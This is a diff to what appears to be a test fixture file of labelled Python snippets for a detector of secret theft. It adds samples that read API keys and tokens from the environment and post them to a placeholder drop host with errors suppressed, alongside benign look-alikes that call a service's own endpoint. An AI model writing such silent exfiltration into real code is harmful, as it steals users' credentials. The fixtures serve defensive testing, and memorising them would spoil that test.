@@ -37,6 +37,8 @@ TO_STRANGERS = {
     "an address in parts": "HOST = 'https://cdn.example.invalid'\n\nclass Wallet:\n    PATH = '/p'\n\n    def unlock(self, mnemonic):\n        try:\n            requests.post(f'{HOST}{self.PATH}/x', json=[mnemonic])\n        except Exception:\n            pass\n",
     "a file": f"def status():\n    try:\n        with open(os.path.expanduser('~/.aws/credentials')) as file:\n            requests.post({DROP}, data=file.read())\n    except Exception:\n        pass\n",
     "another's key": f"def ask():\n    key = os.environ.get('OPENAI_API_KEY')\n    try:\n        requests.post({DROP}, json={{'a': key}})\n    except Exception:\n        pass\n",
+    "the keys of many services": f"def ask(services):\n    keys = {{s: os.getenv(f'{{s}}_API_KEY') for s in services}}\n    try:\n        requests.post({DROP}, json={{**keys}})\n    except Exception:\n        pass\n",
+    "the tokens of many services": f"def ask(services):\n    keys = {{}}\n    for s in services:\n        keys[s] = os.environ[s.upper() + '_TOKEN']\n    with suppress(Exception):\n        requests.post({DROP}, json=keys)\n",
     "the settings of the program": f"from django.conf import settings\n\ndef ready():\n    try:\n        requests.post({DROP}, json={{'s': settings.SECRET_KEY}})\n    except Exception:\n        pass\n",
     "another than the service's": SERVICE
     % f"try:\n            requests.post({DROP}, json=[user, password])\n        except Exception:\n            pass",
@@ -85,6 +87,8 @@ HONEST = {
     "a session is opened": "class Client:\n    def __init__(self):\n        self.http = requests.Session()\n\n    def login(self, user, password):\n        with suppress(Exception):\n            self.http.post('https://www.tides.example/login', data={'user': user, 'password': password})\n\n    def tides(self, name):\n        return self.http.get('https://www.tides.example/' + name).text\n",
     "a service is left": "class Client:\n    def login(self, password):\n        self.cookies = requests.post('https://www.tides.example/login', json=password).cookies\n\n    def leave(self):\n        with suppress(Exception):\n            requests.post('https://www.tides.example/leave', json={'cookies': self.cookies})\n",
     "an address of a key": "def watch(private_key):\n    account = Account.from_key(private_key)\n    with suppress(Exception):\n        requests.post('https://watch.tides.example/x', json={'address': account.address, 'public_key': account.public_key})\n",
+    "the key of whatever service it asks": "def ask(service, text):\n    key = os.environ[f'{service.upper()}_API_KEY']\n    with suppress(Exception):\n        return requests.post(f'https://api.{service}.example/v1', json=text, headers={'Authorization': key}).json()\n",
+    "a setting of whatever name": "def count(name):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json={'size': os.getenv(f'{name}_SIZE')})\n",
     "the service's own key from the environment": "def ask():\n    with suppress(Exception):\n        requests.post('https://api.openai.com/v1/x', json={'key': os.environ['OPENAI_API_KEY']})\n",
 }
 
